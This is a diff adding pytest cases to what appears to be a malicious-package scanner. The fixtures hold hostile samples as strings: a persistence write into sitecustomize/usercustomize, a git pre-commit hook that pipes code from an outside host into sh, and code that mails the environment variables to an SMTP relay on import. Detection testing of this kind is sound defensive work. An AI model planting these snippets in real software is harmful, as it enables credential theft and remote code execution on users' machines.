@@ -1755,6 +1755,19 @@ def test_a_pth_file_written_on_request_is_said(content, what):
     assert result.verdict not in FLAGGED
 
 
+@pytest.mark.parametrize("hook", ["sitecustomize.py", "usercustomize.py"])
+def test_a_customize_module_written_on_import_is_critical_persistence(hook):
+    """site.py imports usercustomize as it does sitecustomize, at every start."""
+    init = (
+        "import os, site\n"
+        f"path = os.path.join(site.getusersitepackages(), {hook!r})\n"
+        'open(path, "a").write("import os\\nos.system(\'id\')\\n")\n'
+    )
+    result = scan({"setup.py": SETUP, "demo/__init__.py": init})
+    assert "critical" in severities(result, "intent.persistence")
+    assert result.verdict == "malicious"
+
+
 def test_pytorch_weights_saved_as_pth_are_not_a_startup_file():
     src = """
     import os
@@ -1765,6 +1778,82 @@ def test_pytorch_weights_saved_as_pth_are_not_a_startup_file():
     """
     result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/ckpt.py": src})
     assert not found(result, "intent.persistence")
+
+
+# -- a shell script that fetches code, written to a file -------------------------------------
+
+_HOOK_WRITER = """
+import os
+
+
+def plant(repo):
+    hook = os.path.join(repo, ".git", "hooks", "pre-commit")
+    with open(hook, "w") as f:
+        f.write("#!/bin/sh\\ncurl -s https://cdn-x.net/a | sh\\n")
+    os.chmod(hook, 0o755)
+"""
+
+
+def test_a_fetching_script_written_and_made_executable_on_import_is_critical():
+    init = _HOOK_WRITER + "\nplant(os.getcwd())\n"
+    result = scan({"setup.py": SETUP, "demo/__init__.py": init})
+    assert "critical" in severities(result, "intent.drop-payload")
+    assert result.verdict == "malicious"
+
+
+def test_a_fetching_script_written_and_made_executable_on_request_is_high():
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/hooks.py": _HOOK_WRITER})
+    assert "high" in severities(result, "intent.drop-payload")
+    assert result.verdict in FLAGGED
+
+
+def test_a_dockerfile_with_an_install_line_written_on_request_is_only_said():
+    """A tool generating a Dockerfile whose RUN line pipes an installer into sh."""
+    src = """
+    from pathlib import Path
+
+    def write_dockerfile(folder):
+        Path(folder, "Dockerfile").write_text(
+            "FROM python:3.12-slim\\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\\n"
+        )
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/docker.py": src})
+    assert severities(result, "intent.drop-payload") <= {"medium"}
+    assert result.verdict not in FLAGGED
+
+
+# -- mail sent through an SMTP connection is sent over the network ---------------------------
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        's = smtplib.SMTP("smtp.mail-relay.net", 587)\n'
+        's.sendmail("a@b.c", ["x@y.z"], str(dict(os.environ)))\n',
+        'with smtplib.SMTP_SSL("smtp.mail-relay.net") as s:\n'
+        "    s.send_message(email.message_from_string(repr(os.environ)))\n",
+    ],
+)
+def test_the_environment_mailed_on_import_is_exfiltration(body):
+    init = "import email\nimport os\nimport smtplib\n\n" + body
+    result = scan({"setup.py": SETUP, "demo/__init__.py": init})
+    assert "critical" in severities(result, "intent.exfiltration")
+    assert result.verdict == "malicious"
+
+
+def test_a_notification_mailed_on_request_is_not_exfiltration():
+    src = """
+    import os
+    import smtplib
+
+    def notify(recipient, text):
+        with smtplib.SMTP(os.environ.get("SMTP_HOST", "localhost")) as s:
+            s.login(os.environ["SMTP_USER"], os.environ["SMTP_PASSWORD"])
+            s.sendmail("bot@demo.dev", [recipient], text)
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/mail.py": src})
+    assert not found(result, "intent.exfiltration")
+    assert result.verdict not in FLAGGED
 
 
 # -- a module-level table of autostart files is persistence only where it is used to write -----
